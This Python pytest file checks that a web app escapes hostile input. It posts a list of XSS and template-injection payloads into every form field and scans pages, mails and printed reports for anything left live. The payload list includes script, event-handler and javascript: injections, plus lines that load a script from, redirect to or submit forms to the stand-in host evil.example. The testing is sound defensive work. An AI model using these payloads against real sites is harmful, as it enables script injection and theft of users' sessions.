"""Words that try to be more than words, in every field of every form: on every page, in every mail and print they are
words and nothing else. The classes are those of the public lists of such words; the words are our own."""

import re
from collections.abc import Iterator
from urllib.parse import urlencode
from xml.etree.ElementTree import Element

import pytest
import tinyhtml5
from sqlalchemy import select

from taskforce.config import CHECKOUT
from taskforce.core.jobs import Job
from taskforce.press.rounds import Known
from taskforce.report import assemble
from taskforce.report import queries as reports
from taskforce.report.typeset import job
from tests.web.doors import doors
from tests.web.house import House, Visitor
from tests.web.sheets import Sheet, sheets

SENT_AS = "application/x-www-form-urlencoded"
SUM = "{{ 1234 * 4321 }}{% set x = 1 %}${1234*4321}#{1234*4321}"
COUNTED = "5332114"
WORDS = (
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "</textarea></title></style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '[x](https://a.example "onclick=alert(1))',
    '![x](x" onerror="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>x",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style><p style=color:red>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<input type=hidden name=csrf_token value=evil><button name=role value=evil>",
    "\u202e<\u2066script>alert(1)</script>",
    "﹤script﹥＜script＞alert(1)",
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>",
    "||x|onclick=alert(1)|\n|-|-|\n|<script>|</td><script>alert(1)</script>|",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "[@survey <script>alert(1)</script>]",
    SUM,
)
FOREIGN = {
    "iframe",
    "object",
    "embed",
    "base",
    "applet",
    "frame",
    "frameset",
    "math",
    "foreignobject",
    "portal",
}
LINKS = {"href", "src", "action", "formaction", "data", "poster", "srcset", "cite", "background", "ping"}
SCHEMES = ("javascript:", "vbscript:", "data:", "//")
SENT_AS_TYPED = ("text", "textarea", "search", "url")
BY_NAME = {
    "link": 'https://a.example/?"><script>alert(1)</script>',
    "url": "javascript:alert(1)//https://a.example",
}
LONGEST_LINE = 190
ICON = re.findall(r'rel="icon"[^>]* href="([^"]+)"', (CHECKOUT / "templates" / "_assets.html").read_text())[0]


def portions(words: tuple[str, ...]) -> list[str]:
    """All of them in lines that a name takes."""
    lines = [""]
    for one in words:
        if len(lines[-1]) + len(one) > LONGEST_LINE:
            lines.append("")
        lines[-1] += one
    return lines


LINES, TEXT = portions(WORDS), "\n\n".join(WORDS)


def live(html: str, *, in_print: bool = False) -> Iterator[str]:
    """What in the page, read as browsers read it, would do more than stand there."""
    if "noscript" in html:  # what is inside is words where scripts run; so it is of `noembed`, everywhere
        yield from live(html.replace("noscript", "noembed"), in_print=in_print)
    for element in tinyhtml5.parse(html, namespace_html_elements=False).iter():
        tag = str(element.tag).rpartition("}")[2].lower()
        attributes = {str(name).rpartition("}")[2].lower(): value for name, value in element.attrib.items()}
        yield from _acting(tag, attributes, _said(element))
        yield from _leading_away(tag, attributes)
        if "style" in attributes and not in_print:
            yield f"<{tag} style={attributes['style']}>"
    if COUNTED in html:
        yield "a sum was counted"


def _acting(tag: str, attributes: dict[str, str], said: str) -> Iterator[str]:
    """What runs, frames, restyles or sends by itself."""
    yield from (f"<{tag} {name}>" for name in attributes if name.startswith("on") or name == "srcdoc")
    if tag in FOREIGN or (tag in ("style", "link") and "alert" in said):
        yield f"<{tag}>"
    if attributes.get("value") == "evil" and tag != "option":
        yield f"<{tag} value=evil>"
    if "refresh" in attributes.get("http-equiv", "") and not attributes["content"].isdigit():
        yield f"<meta {attributes['content']}>"
    if tag == "script" and not attributes.get("src", "").startswith("/static/"):
        yield f"<script {attributes}>"


def _leading_away(tag: str, attributes: dict[str, str]) -> Iterator[str]:
    """Addresses that run, or that lead to whoever sent the words."""
    for name in LINKS & attributes.keys():
        address = "".join(sign for sign in attributes[name] if sign > " ").lower()
        if attributes[name] != ICON and (address.startswith(SCHEMES) or "evil.example" in address):
            yield f"<{tag} {name}={address[:60]}>"


def _said(element: Element) -> str:
    return (element.text or "") + " ".join(element.attrib.values())


@pytest.mark.parametrize("words", WORDS)
def test_the_reader_of_pages_sees_what_is_live(words: str) -> None:
    """Raw HTML must be found out, or the walk below proves nothing; Markdown alone does nothing in HTML."""
    if words.startswith(("<", "</", "-->")) and "<javascript" not in words:
        assert list(live(f"<body><p>{words}</p>"))


def filled(sheet: Sheet, turn: int) -> list[tuple[str, str]]:
    """The form with hostile words wherever something is typed."""
    pairs = []
    for at, field in enumerate(sheet.fields.values()):
        if field.type in SENT_AS_TYPED and field.name not in ("address", "accent"):
            line = BY_NAME.get(field.name, LINES[(at + turn) % len(LINES)])
            pairs.append((field.name, TEXT if field.type == "textarea" else line))
        else:
            pairs += [(field.name, value) for value in field.filled]
    return pairs


def has_words(sheet: Sheet) -> bool:
    return any(field.type in SENT_AS_TYPED for field in sheet.fields.values())


def pages(house: House) -> Iterator[tuple[Visitor, str]]:
    for role in ("facilitator", "member"):
        for door in doors(house.app, "harbors", house.things["harbors"]):
            if door.method == "GET":
                yield house.visitor(role), door.path


def test_words_in_any_field_stay_words_on_every_page_in_every_mail_and_in_print(
    house: House,
) -> None:
    """Each line of them at some fields; `bin/soak` puts every line into every field."""
    walk(house, 1)


def walk(house: House, turns: int) -> None:
    """Send every form so many times, with another line at each field; then look at every page, mail and print."""
    found: list[tuple[str, str]] = []
    seen = 0
    for turn in range(turns):
        for sheet in filter(has_words, sheets(house)):
            body = urlencode([*filled(sheet, turn), ("csrf_token", sheet.visitor.token)])
            answer = house.ask(sheet.visitor, "POST", sheet.path, data=body, content_type=SENT_AS)
            assert answer.status_code < 500, (sheet.endpoint, answer.status_code)
            if answer.mimetype == "text/html":  # refused, or beside another's: what was typed stands there
                found += [(f"POST {sheet.endpoint}", what) for what in live(answer.text)]
    for visitor, path in pages(house):
        answer = house.get(visitor, path)
        assert answer.status_code < 500, (path, answer.status_code)
        if answer.mimetype == "text/html":
            seen += "alert(1)" in answer.text
            found += [(path, what) for what in live(answer.text)]
    assert found == []
    assert seen > 30, "the words are hardly shown anywhere: this proves little"
    assert list(in_mails(house)) == []
    assert list(in_print(house)) == []


def in_mails(house: House) -> Iterator[str]:
    with house.database.read() as session:
        waiting = list(session.scalars(select(Job).where(Job.kind == "mail")))
    assert waiting
    for one in waiting:
        if "\n" in one.payload["subject"] or "\r" in one.payload["subject"]:
            yield f"a subject of two lines: {one.payload['subject']!r}"
        yield from live(one.payload.get("html") or "", in_print=True)


def in_print(house: House) -> Iterator[str]:
    """The HTML of the whole report, as it goes to the press, which loads nothing but our own assets."""
    with house.database.read() as session:
        record = reports.record(session, house.actor("facilitator"))
    yield from live(job(assemble.volume(record), {}).compose(Known()), in_print=True)
